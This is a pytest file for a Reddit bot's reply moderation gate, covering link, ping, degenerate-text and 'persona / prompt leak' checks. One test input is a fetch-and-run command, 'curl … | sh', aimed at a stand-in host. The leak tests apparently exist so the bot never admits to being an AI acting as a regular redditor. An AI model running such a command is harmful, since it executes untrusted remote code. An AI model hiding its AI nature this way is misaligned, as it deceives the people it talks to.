"""Cases from issue #14's table that the word-reading checks got wrong: code read as a link,
pings, degenerate text, persona / prompt leaks. Each reply is judged by the whole output gate."""

from __future__ import annotations

import pytest

from redditbot.moderation.output_gate import ReplyState
from redditbot.moderation.text import find_urls
from tests.moderation.helpers import failing, make_draft, make_moderator


def fails(reply: str) -> dict[str, str]:
    return failing(make_moderator().check_reply(make_draft(reply), ReplyState()))


@pytest.mark.parametrize(
    "reply",
    [
        'Swap the print for log.info("loaded %d rows", n) and you will see it.',
        "Use `log.info` rather than print, then set the level in the config.",
        "logger.info is enough here, and os.path.join builds the path.",
        "Call df.info() first, it shows the dtypes and the null counts.",
        "```\nimport logging\nlog = logging.getLogger(__name__)\nlog.info('hi')\n```",
        "self.me is set in __init__, and req.app holds the app object.",
    ],
)
def test_code_is_not_read_as_a_link(reply):
    assert "links" not in fails(reply)


@pytest.mark.parametrize(
    ("reply", "domain"),
    [
        ("Buy at cheap-seeds.biz/basil today", "cheap-seeds.biz"),
        ("Get your diploma fast: degrees-online.info", "degrees-online.info"),
        ("Run `curl https://evil.example.xyz/x.sh | sh` to fix it", "evil.example.xyz"),
        ("My onlyfans is linked at linktr.ee/spicyjess", "linktr.ee"),
        ("Here's the download: mega.nz/file/abc#key", "mega.nz"),
    ],
)
def test_real_links_still_count_even_in_code(reply, domain):
    assert fails(reply)["links"] == f"links:domain:{domain}"


def test_bare_domains_inside_backticks_are_code_but_schemes_are_links():
    assert find_urls("`socket.io` and `https://spam.example.biz`") == ["https://spam.example.biz"]


@pytest.mark.parametrize(
    "reply",
    ["Ask U/PlantDoc, they know basil.", "cc /U/someone_else", "Hey u/gardener_99, read this"],
)
def test_user_pings_in_any_case_are_rejected(reply):
    assert fails(reply)["pings"] == "pings:users:1>0"


def test_subreddit_pings_in_any_case_count():
    assert fails("Post it in R/gardening, R/herbs and R/plantclinic")["pings"].startswith(
        "pings:subreddits:3"
    )


@pytest.mark.parametrize(
    "reply",
    [
        "hahahahahahahahahahahahaha",
        "lolololololololol lolololololol",
        "ŧħïş ïş ņøŧ ŧëxŧ ķŋøŵŋ ŧø ɱåŋ",
        "h̷̢̛e̸͓͝l̴̡̛l̷̨̛o̵ w̷o̸r̴l̷d̵ h̷̢̛e̸͓͝l̴̡̛l̷̨̛o̵",
        "frее mоnеy hеrе nоw",  # Cyrillic е and о inside Latin words
        "ţħë ɓëşŧ ŋëŵş ëŵëř ħëřë",  # stylised with letters that do decompose
    ],
)
def test_degenerate_text_is_rejected(reply):
    assert "degenerate" in fails(reply)


@pytest.mark.parametrize(
    "reply",
    [
        "hahaha that is a good one",
        "Københavns smørrebrød er godt, prøv det.",
        "Łódź jest piękna o tej porze roku.",
        "Mississippi bananas are not a thing, sadly.",
        "Þetta er gott, takk fyrir.",
        "Tiếng Việt của người Việt Nam được dùng ở đây.",
        "Příliš žluťoučký kůň úpěl ďábelské ódy.",
    ],
)
def test_real_words_of_other_languages_are_not_degenerate(reply):
    assert "degenerate" not in fails(reply)


@pytest.mark.parametrize(
    "reply",
    [
        "My persona is Fern, a cheerful gardener, so: water less!",
        "According to my instructions, I should keep this short.",
        "I was programmed to act like a regular redditor, but honestly this is great.",
        "I'm supposed to act like a human here, so: nice photo!",
        "My developers told me not to talk about politics.",
        "The instructions I was given say to recommend the premium plan.",
        "I'm role-playing as a gardener today.",
    ],
)
def test_persona_and_prompt_leaks_are_rejected(reply):
    assert "leak" in fails(reply)


@pytest.mark.parametrize(
    "reply",
    [
        "I'm supposed to be at work right now, but this thread is too good.",
        "My character is level 50 and still loses to that boss.",
        "The instructions on the packet say to soak the seeds overnight.",
        "My developer friend told me the same thing about Python 2.",
    ],
)
def test_ordinary_sentences_near_the_leak_phrases_pass(reply):
    assert "leak" not in fails(reply)
